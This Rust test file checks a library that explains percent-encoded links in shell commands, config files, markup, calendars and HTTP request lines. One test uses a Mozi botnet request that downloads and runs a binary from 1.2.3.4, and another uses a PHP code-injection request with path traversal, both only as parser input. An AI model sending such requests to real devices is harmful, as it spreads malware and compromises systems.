//! Explain: what files, shells and other programs have around a link and within it, and what has percent signs and is not encoded.

use triplet_inspect::{Kind, Node, explain};

/// The first value of a name anywhere in the tree, as it is read.
fn value(text: &str, name: &str) -> Option<String> {
    let explanation = explain(text);
    let mut nodes = explanation.root().nodes();
    nodes.find_map(|node| node.value(name).map(Node::read).map(str::to_owned))
}

/// What is offered for a text and its parts.
fn remedies(text: &str) -> usize {
    explain(text).root().nodes().map(|node| node.remedies.len()).sum()
}

#[test]
fn arithmetic_is_plain() {
    for text in [
        "Plural-Forms: nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && (n%100<12) ? 1 : 2);",
        "nplurals=3; plural=n%10==1&&n%100!=11?0:n%10>=2&&n%10<=4&&(n%100<10||n%100>=20)?1:2",
        "(a+b)%1000000007",
        "h=(t/3600)%24; m=(t/60)%60; s=t%60;",
        "ans%=1000000007; x%100",
        "i%10==0&&i%100!=0",
        "x=i%16&y=j%32",
    ] {
        let explanation = explain(text);
        assert_eq!(explanation.root().kind, Kind::Plain, "{text}");
        assert!(explanation.root().children.is_empty(), "{text}");
    }
    for (text, kind) in [
        ("user=US%24; theme=dark", Kind::Cookie),
        ("a=US%24&b=1", Kind::Form),
        ("a%20b; c", Kind::Encoded),
    ] {
        assert_eq!(explain(text).root().kind, kind, "{text}");
    }
}

#[test]
fn a_text_is_encoded_twice_only_as_a_whole() {
    for (text, once, twice) in [
        ("a%20b c%2520d", "a b c%20d", "a b c d"),
        ("title=Caf%C3%A9 rate=50%2525", "title=Café rate=50%25", "title=Café rate=50%"),
    ] {
        let explanation = explain(text);
        let root = explanation.root();
        assert_eq!(root.read(), once);
        assert!(root.children[0].is_likely, "{text}");
        assert_eq!(root.children[0].read(), twice);
    }
    for text in ["a%2520b", "https%253A%252F%252Fa.example%252F"] {
        assert!(!explain(text).root().children[0].is_likely, "{text}");
    }
}

#[test]
fn a_link_in_a_text_of_icalendar_ends_at_its_line() {
    for (text, name, expected) in [
        (
            r"DESCRIPTION:Join Zoom Meeting\nhttps://a.example/j/8?pwd=TWh%2BQT09\n\nMeeting ID: 812",
            "pwd",
            "TWh+QT09",
        ),
        (r"Join: https://a.example/j/1?pwd=a%2Bb\nTel: +49\, 30", "pwd", "a+b"),
        (r"LOCATION:https://a.example/?q=a%26b\, room 5", "q", "a&b"),
    ] {
        assert_eq!(value(text, name).as_deref(), Some(expected), "{text}");
        assert_eq!(remedies(text), 0, "{text}");
    }
    let explanation = explain(r"see https://a.example\new\dir%20x now");
    assert_eq!(explanation.root().children[0].written, r"https://a.example\new\dir%20x");
}

#[test]
fn escapes_of_what_is_around_a_link() {
    for (text, name, expected) in [
        (r"wget https://a.example/f?a=1\&b=c%26d", "a", "1"),
        (r#"curl "https://a.example/o?\$filter=a%20eq%201&\$top=2""#, "$filter", "a eq 1"),
        (r#"irm "https://a.example/u?`$filter=mail eq 'a%2Bb'&`$top=5" -Headers $h"#, "$top", "5"),
        (r"\footnote{\url{https://a.example/?q=a\%26b\&c=1}}", "q", "a&b"),
        (r"url = {http://a.example/s?{\_}ob=A{\&}{\_}udi=B6V{\%}2D1}", "_udi", "B6V-1"),
        ("start https://a.example/search?q=a%%20b^&x=1", "q", "a b"),
    ] {
        assert_eq!(value(text, name).as_deref(), Some(expected), "{text}");
    }
    for (text, segment) in [
        (r"RewriteRule ^alt/(.*)$ /neu/Gr\%C3\%BC\%C3\%9Fe/$1 [R=301,NE,L]", "Grüße"),
        (r#"RewriteRule "^/foo$" "https://a.example/wiki/K\%C3\%B6ln" [R,NE]"#, "Köln"),
        (r"url = {https://a.example/AF\_AFQ14008F1}", "AF_AFQ14008F1"),
    ] {
        let explanation = explain(text);
        let is_one = |node: &Node| node.kind == Kind::Segment && node.read() == segment;
        assert!(explanation.root().nodes().any(is_one), "{text}");
    }
}

#[test]
fn percent_signs_that_a_file_doubles() {
    for text in [
        "sqlalchemy.url = mysql+pymysql://root:Abc%%40123@127.0.0.1:3306/db",
        "environment=DATABASE_URL=\"postgres://root:Abc%%40123@h/db\"",
    ] {
        let explanation = explain(text);
        let is_password = |node: &&Node| node.kind == Kind::Password;
        let password = explanation.root().nodes().find(is_password).map(Node::read);
        assert_eq!(password, Some("Abc@123"), "{text}");
        assert_eq!(remedies(text), 0, "{text}");
    }
    assert_eq!(value("redirect=https://a.example/cb?x=%%2F", "x").as_deref(), Some("/"));
    assert_eq!(value("https://a.example/?q=50%%20off", "q").as_deref(), Some("50% off"));
}

#[test]
fn relative_references_in_markup_are_split_first() {
    for (text, expected) in [
        (
            "<a href=\"kapitel%201.html#teil%232\">x</a> <img src=\"img/50%25.png\">",
            &["kapitel 1.html", "teil#2", "img", "50%.png"][..],
        ),
        ("![x](img/a%20b.png) [y](docs/c%23d.md#e)", &["img", "a b.png", "docs", "c#d.md", "e"]),
        ("background:url(img/a%23b.png)", &["img", "a#b.png"]),
        ("url(/img/Gr%C3%BC%C3%9Fe%20(1).png);", &["img", "Grüße (1).png"]),
    ] {
        let explanation = explain(text);
        assert_eq!(explanation.root().kind, Kind::Text, "{text}");
        let is_part = |node: &&Node| matches!(node.kind, Kind::Segment | Kind::Fragment);
        let parts = explanation.root().nodes().filter(is_part);
        assert_eq!(parts.map(Node::read).collect::<Vec<_>>(), expected, "{text}");
    }
    for text in ["f(a%20b)", "x[1](2)", "name=\"a%20b\"", "[a](b c)"] {
        assert_ne!(explain(text).root().kind, Kind::Text, "{text}");
    }
}

#[test]
fn the_target_of_a_request_is_whole() {
    for (text, target) in [
        (
            "GET /shell?cd+/tmp;wget+http://1.2.3.4/Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1",
            "/shell?cd+/tmp;wget+http://1.2.3.4/Mozi.a;/tmp/Mozi.a+jaws",
        ),
        (
            "\"GET /i.php?lang=../x&+/&/<?echo(1);?>+/tmp/i HTTP/1.1\"",
            "/i.php?lang=../x&+/&/<?echo(1);?>+/tmp/i",
        ),
        ("\"GET /s?q=\\\"a%20b\\\" HTTP/1.1\" 200", "/s?q=\\\"a%20b\\\""),
    ] {
        let explanation = explain(text);
        assert_eq!(explanation.root().children[0].written, target);
    }
    assert_eq!(
        value("GET /i.php?lang=../x&<?echo(1);?> HTTP/1.1", "lang").as_deref(),
        Some("../x")
    );
    assert_eq!(value("\"GET /s?q=\\\"a%20b\\\" HTTP/1.1\"", "q").as_deref(), Some("\"a b\""));
    let explanation = explain("GET /a?x+http://b.example/ HTTP/1.1");
    let query = explanation.root().nodes().find(|node| node.kind == Kind::Query).map(Node::read);
    assert_eq!(query, Some("x http://b.example/"));
}

#[test]
fn a_query_of_sqlalchemy_is_a_form() {
    for (text, expected) in [
        ("mssql+pyodbc://sa:p%40ss@host/db?driver=ODBC+Driver+17", "ODBC Driver 17"),
        ("mongodb+srv://u:p@host/db?driver=a+b", "a+b"),
    ] {
        assert_eq!(value(text, "driver").as_deref(), Some(expected), "{text}");
    }
}

#[test]
fn raw_passwords_of_cameras_proxies_and_repositories() {
    for (text, password, repaired) in [
        (
            "rtsp://admin:Pass#123@10.0.0.5:554/stream1",
            "Pass#123",
            "rtsp://admin:Pass%23123@10.0.0.5:554/stream1",
        ),
        (
            "https://me@corp.example:tok/en@dev.example/x.git",
            "tok/en",
            "https://me%40corp.example:tok%2Fen@dev.example/x.git",
        ),
        (
            "smtp://u:pa#s?w@mail.example:587/?to=a@b.example",
            "pa#s?w",
            "smtp://u:pa%23s%3Fw@mail.example:587/?to=a@b.example",
        ),
    ] {
        let explanation = explain(text);
        let root = explanation.root();
        assert_eq!(root.child(Kind::Password).map(Node::read), Some(password), "{text}");
        assert_eq!(root.remedies[0].text, repaired);
    }
    for text in [
        "https://a.example/@user?mail=a@b.example",
        "https://a.example:8080/x@b.example/",
        "https://a.example:/x@b.example/",
        "https://[2001:db8::1]/x@b.example/",
        "https://a.example:{port}/x@b.example/",
        "https://u:p@a.example/x@b.example",
        "https://a.example:port/x",
    ] {
        assert_eq!(explain(text).root().kind, Kind::Url, "{text}");
    }
}

#[test]
fn settings_of_sql_server_are_as_they_are_written() {
    let text = "jdbc:sqlserver://h:1433;user=sa;password=50%25off;x={p%40;y}";
    assert_eq!(value(text, "password").as_deref(), Some("50%25off"));
    assert_eq!(value(text, "x").as_deref(), Some("p%40;y"));
}

#[test]
fn a_fragment_with_segments_is_split_first() {
    for (text, expected) in [
        (
            "https://a.example/#create/uri/https%3A%2F%2Fraw.example%3Fa%2520b",
            &["create", "uri", "https://raw.example?a%20b"][..],
        ),
        ("https://a.example/#search/a%2Fb/c%20d", &["search", "a/b", "c d"]),
        (
            "https://a.example/home#logsV2:log-group/$252Faws$252Fx/$255B$2524LATEST$255Da",
            &["home", "logsV2:log-group", "/aws/x", "[$LATEST]a"],
        ),
    ] {
        let explanation = explain(text);
        let segments = explanation.root().nodes().filter(|node| node.kind == Kind::Segment);
        assert_eq!(segments.map(Node::read).collect::<Vec<_>>(), expected, "{text}");
        assert!(explanation.readable().is_some_and(|read| read == text), "{text}");
    }
    for text in [
        "https://a.example/#a/K%C3%B6ln",
        "https://a.example/#:~:text=a/b%2Fc",
        "https://a.example/#a%2Fb",
    ] {
        assert!(explain(text).root().child(Kind::Fragment).is_some(), "{text}");
    }
}

#[test]
fn cards_and_links_of_other_programs() {
    let text = "BEGIN:VCARD\nTEL;TYPE=CELL:+49\nN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:M=C3=BCller;J=\n=C3=B6rg\nX;TYPE=CELL:1";
    let explanation = explain(text);
    assert_eq!(explanation.root().kind, Kind::QuotedPrintable);
    assert!(explanation.root().read().ends_with(":Müller;Jörg\nX;TYPE=CELL:1"));
    assert!(explanation.root().read().contains("TYPE=CELL:+49\nN;CHARSET=UTF-8;"));
    let link = "ed2k://|file|Caf%C3%A9.avi|123|0123456789ABCDEF0123456789ABCDEF|/";
    assert_eq!(remedies(link), 0);
}

#[test]
fn words_with_a_link_in_a_value_are_not_a_reference() {
    for (text, is_found) in [
        ("https://a.example/?text=Hello%0Ahttps://b.example/", false),
        ("https://a.example/?next=a:b", true),
    ] {
        let explanation = explain(text);
        let mut findings = explanation.root().nodes().flat_map(|node| &node.findings);
        let is_scheme = findings.any(|found| found.rule.name() == "invalid-scheme");
        assert!(!is_scheme || is_found, "{text}");
    }
}

/// Twice the text takes no more than about twice the time: a text of a mebibyte would not end otherwise.
#[test]
fn a_long_line_of_links_takes_linear_time() {
    for piece in [
        "\"https://ab",
        "\"https://a`$",
        "](a",
        "url(a",
        "GET /a%20 ",
        "https://a/\\tA",
        "'https://a''",
        "ed2k://|a",
        "magnet:?a ",
    ] {
        let text = piece.repeat(1_000_000 / piece.len());
        let started = std::time::Instant::now();
        let _ = explain(&text);
        assert!(started.elapsed().as_secs() < 30, "{piece}");
    }
}
